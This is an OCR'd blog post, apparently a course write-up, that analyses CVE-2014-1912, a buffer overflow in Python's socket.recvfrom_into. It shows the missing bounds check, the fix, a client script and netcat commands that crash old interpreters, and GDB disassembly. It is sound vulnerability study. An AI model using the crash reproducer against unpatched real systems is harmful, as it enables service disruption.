Remotely Exploitable Buffer-Overflow in Python

In this post I discuss a buffer-overflow that exist in older versions of both Python 2 and 3. This overflow can be exploited remotely.

The overflow could be exploited to cause a simple crash or execute a remote shell code by injecting into the running Python process. This bug is still relevant since a lot of systems may continue to run dated and unpatched versions of Python making the system vulnerable to attacks.

The blog post is based on one of my favorite assignments for my Masters. For this assignment we were asked to search for an already reported vulnerability in an open sourced project and then study and exploit it. I chose “CVE-2014-1912 – Buffer Overflow in the socket module of Python” and analyzed the issue as a block-box bywriting an exploit as a python script, then took a close look at the C code that Python is written in, and finally looked at the built assembly of the vulnerable code. The analysis was done on Python 2 source (built Python from source) and used simple GDB to debug the security flaw.

CVE-2014-1912 – Buffer Overflow in the socket module of Python

Impact from NVD website:

CVSS Severity (version 2.0):
CVSS v2 Base Score: 7.5 (HIGH)
Impact Subscore: 6.4
Exploitability Subscore: 10.0

CVSS Version 2 Metrics:
Access Vector: Network exploitable
Access Complexity: Low
Authentication: Not required to exploit
Impact Type: Allows unauthorized disclosure of information; Allows unauthorized modification; Allows disruption of service

Defect opened with Python

#20246 –

Overview from the NVD websiteBuffer overflow in the socket.recvfrom_into function in Modules/socketmodule.c in Python 2.5 before 2.7.7, 3.x before 3.3.4, and 3.4.x before 3.4rc1 allows remote attackers to execute arbitrary code via a crafted string.

Issue Details

This issue as described above affects both Python 2 and 3. Note that Python 2 and 3 and different and are not completely compatible with each other. Python 2 is considered legacy – refer to for more details.

For this assignment I have chosen to work with Python 2 – so for this exercise I am working with Python 2.4.4 (before defect introduction), 2.5 (defect introduced), 2.7.7 (defect resolved).

For building the application the optimization was turned to OFF (zero) (-O0) and ensured that the debug flag was on (-g). The Makefile was accordingly modified,

OPT= -DNDEBUG -g -O0 -Wall -Wstrict-prototypes

The Python interpreter is majorly written in C. For this exercise there are several layers of indirection – The Python Script is interpreted by the “python” interpreter. The interpreter is written in C as stated above. This Interpreter’s program is compiled into platform specific binary using a C-compiler like gcc on Linux. The compiled code contains machine instructions which can be studied using a debugger in its assembly form using GDB.

The Buffer-Overflow in question is caused when a socket program written in Python uses “recvfrom_into” method to read data from a socket which is larger than the size of the buffer in which it is trying to read into. This is due to a missing check in the underlying C program in the interpreter in Modules/socketmodule.c. The C program method where thecorresponding check is missing is sock_recvfrom_into. This method as a whole was introduced in Python 2.5 and hence versions prior to 2.5 do not have this vulnerability.

Introduced in Python 2_5

Once the defect was identified the a simple validation (bounds check before assignment) was used the fix the issue.

An else if check added to check the rec len vs the buffer length

Note there are quite a few changes, but only one “else if” check that raises an exception is related to this issue.

} else if (recvlen > buflen) {
                        "nbytes is greater than the length of the buffer");
        goto error;

Interesting to note that the absence of the simple check above would result in a buffer-overflow vulnerability with an Exploitability Subscore 10.0!

Additionally it is important to note that the Unit Test Case was insufficient to catch this issue in 2.5 – an additional Unit Test Case added in 2.7.7 ensure that this defect is fixed.

    def testRecvFromIntoSmallBuffer(self):
        # See issue #20246.
        buf = bytearray(8)
        self.assertRaises(ValueError, self.cli_conn.recvfrom_into, buf, 1024)

    def _testRecvFromIntoSmallBuffer(self):
        with test_support.check_py3k_warnings():
            buf = buffer(MSG*2048)

Test Case Added along with the fix

Again as we can see the test case was overall less than 10 lines to have caught the issue.

What was going through the Developer’s mind?

There are 3 sets of developers involved here (at least)

  1. The Python Interpreter Developer – Writes C Code for the interpreter and it’s Modules like the socket module.
  2. The Python Interpreter Automation-Tester – Also on thePython Open Source Project team who was writing test cases using Python Script – that can run in an automated fashion on the interpreter to test various features of the interpreter.
  3. The Python-User/Developer – A developer who may/is not involved with the Open Sourced project but uses the interpreter for his day-to-day scripting/development activities.

Both, the Python Interpreter Developer and the Python Interpreter Automation-Tester seem to have ignored a possible failure condition and missed a bounds check in validation and test case. The Python-User/Developer who identified the issue possibly also expected the Interpreter to take care of the bounds check. This assumption or missed condition manifested in a segmentation fault. Leading to the Python-User/Developer filing the defect.

Verification of the issue

For the purpose of verifying the issue I wrote a simple Socket Client in Python. This client used the defective method to read a stream of bytes from the server. Then I executed a netcat in listen mode (server mode) to which my python client connected.The Client code

import socket
import array

#The server Host and Port to connect to.
HOST = ''
PORT = 1234

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((HOST, PORT))

#Define a buffer of size 8.
buf = array.array('c', 'x'*8)
#The alternative - bytearray(8) - bytearray was introduced in 2.6 and hence won't work with 2.5.

#Try reading 1024 bytes in a buffer of size 8.
s.recvfrom_into(buf, 1024)

#Close the socket.

#Print what was received from the server.
print 'Received from Server: ', buf

The Server (netcat)

nc -l -vvvv 1234

Alternatively netcat could be run to dump a large chunk of data to the client that connects to it, which I used in my negative testing,Server dumping large data

cat largeDataFile.txt | nc -l -vvvv 1234

I ran this client on both Python 2.7.7 and Python 2.5.

Examples of output,

(Note the largeDataFile.txt file has ~12000 characters which is one large sequence of 0-9 repeatedly ~1200 times without any white space characters except at the end – 01234567890123456789…).Test-1 Server sends 8 characters or less – Python 2.5 based client.

Test-1.1 Less than 8 characters

bash-4.1$ printf “Yazad” | nc -l -vvvvv 1234

Connection from port 1234 [tcp/search-agent] accepted

bash-4.1$ ./Python-2.5/python ./scripts/exploit/
Received from Server: array(‘c’, ‘Yazadxxx’)

(Notice the trailing x’s – the buffer was initialized with all (8) x’s).

Test-1.2 Exactly 8 characters

bash-4.1$ printf “Yazad123” | nc -l -vvvvv 1234
Connection from port 1234 [tcp/search-agent] acceptedbash-4.1$ ./Python-2.5/python ./scripts/exploit/
Received from Server: array(‘c’, ‘Yazad123’)

Test-2 Server sends large number of characters (larger than the buffer on client) – Python 2.5 based client.


cat largeDataFile.txt | nc -l -vvvv 1234


bash-4.1$ ./Python-2.5/python ./scripts/exploit/
Received from Server: array(‘c’, ‘01234567’)
Segmentation fault (core dumped)

As we can see the Python interpreter crashed with a segmentation fault since the buffer is of size 8 but the data being pushed in is the first 1024 characters of the largeDataFile.txt.

Test-3 Server sends 8 characters or less – Python 2.7.7 based client.

Test-3.1 – Try running any positive case

(Note that the test case does not work at all when we try to read in more than the buffer size even when the server actually sends 8 or less characters. The code has to be changed to accommodate this test case and make the socket read at most 8 bytes; see also Test-4).

Test-3.2 Less than 8 characters (post code change).

bash-4.1$ printf “Yazad” | nc -l -vvvvv 1234
Connection from port 1234 [tcp/search-agent] accepted
bash-4.1$ ./Python-2.7.7/python ./scripts/exploit/
Received from Server: array(‘c’, ‘Yazadxxx’)

Test-3.3 Exactly 8 characters (post code change)

bash-4.1$ printf “Yazad123” | nc -l -vvvvv 1234
Connection from port 1234 [tcp/search-agent] accepted
bash-4.1$ ./Python-2.7.7/python./scripts/exploit/
Received from Server: array(‘c’, ‘Yazad123’)

Test-4 Server sends large number of characters (larger than the buffer on client) – Python 2.7.7 based client.

Test-4.1 (Before Code change)

cat largeDataFile.txt | nc -l -vvvv 1234
bash-4.1$ ./Python-2.7.7/python ./scripts/exploit/Traceback (most recent call last):
File “./scripts/exploit/”, line 16, in <module>
s.recvfrom_into(buf, 1024)
ValueError: nbytes is greater than the length of the buffer

As we can see the fix in effect – there is no segmentation fault – the bounds are checked and an appropriate exception is raised “nbytes is greater than the length of the buffer”, also refer to Test-3.1.

Test-4.2 (Post Code change)

bash-4.1$ cat ./scripts/exploit/largeDataFile.txt | nc -l -vvvvv 1234
Connection from port 1234 [tcp/search-agent] accepted
bash-4.1$ ./Python-2.7.7/python ./scripts/exploit/
Received from Server: array(‘c’, ‘01234567’)

(Note that there is no crash – the first 8 bytes of the first 1024 bytes sent by the server are read and the restis ignored, there is no crash or error).

Understanding the issue code in Python 2.5 (and the Hacker’s view)

The line of code responsible for the vulnerability is the recvfrom_into method of the Python socket.

On closer observationof the Python interpreter code we see the method recvfrom_into internally maps to C method – sock_recvfrom_into, in Python-2.5/Modules/socketmodule.c see (within PyMethodDef sock_methods[]),

{“recvfrom_into”, (PyCFunction)sock_recvfrom_into, METH_VARARGS | METH_KEYWORDS, recvfrom_into_doc}

Now on studying the sock_recvfrom_into method we see that while the Python Interpreter Developer did check ensure that the buffer was initialized and that the size of the bytes to be read was not less than 0;

if (recvlen < 0) { PyErr_SetString(PyExc_ValueError, “negative buffersize in recv”);return NULL;


There is also a check to set the number of bytes to read (recvlen) to the size of the buffer (buflen) if the number of bytes to read was set to 0.

if (recvlen == 0) { /* If nbytes was not specified, use the buffer’s length */

recvlen = buflen;


However there is no check in place to ensure that recvlen be less than or equal to buflen. Because of this missing check an attempt is made my the C program to populate more than the limit of the buffer, causing an overflow.

What theattacker sees.

Here is what an attacker who was running this code in debug mode; as he steps though the disassembled instructions;

I have disassembled the method in question. Note that I have used the disassembled with the /m switch for my code which was compiled with debugging on and optimization turned off.

2539 if (recvlen < 0) {
0x001153e6 <+120>: mov eax,DWORD PTR [ebp-0x10]
0x001153e9 <+123>: test eax,eax
0x001153eb <+125>: jns 0x115411 <sock_recvfrom_into+163>
2544 if (recvlen == 0) {
0x00115411 <+163>: mov eax,DWORD PTR [ebp-0x10]
0x00115414 <+166>: test eax,eax
0x00115416 <+168>: jne 0x11541e <sock_recvfrom_into+176>

The attacker would notice bylooking at the registers and printing their values that the recvlen (the length passed in as input) is never compared with actual size of the buffer.

By printing the values of the registers (when stepping in on at the appropriateinstruction) the attacker would be able to get a closer look at the values being passed in against the values in the registers by using the examine and print commands, examples,

(gdb) print $eax
$7 = 1024

To step through individual assembly instructions the attacker could use the stepi command in gdb.

Understanding the code fix Python 2.7.7

The python socket code remains the same however in this version there is an additional defensive check added, in the interpreter’s socket module. The disassembled version of the code looks like the following,

2744 } else if (recvlen > buflen) {
0x0011612e <+172>: mov eax,DWORD PTR [ebp-0x14]
0x00116131 <+175>: cmp eax,DWORD PTR [ebp-0xc]
0x00116134 <+178>: jle 0x116152 <sock_recvfrom_into+208>
2745 PyErr_SetString(PyExc_ValueError,
0x00116136 <+180>: mov eax,DWORD PTR [ebx-0x38]
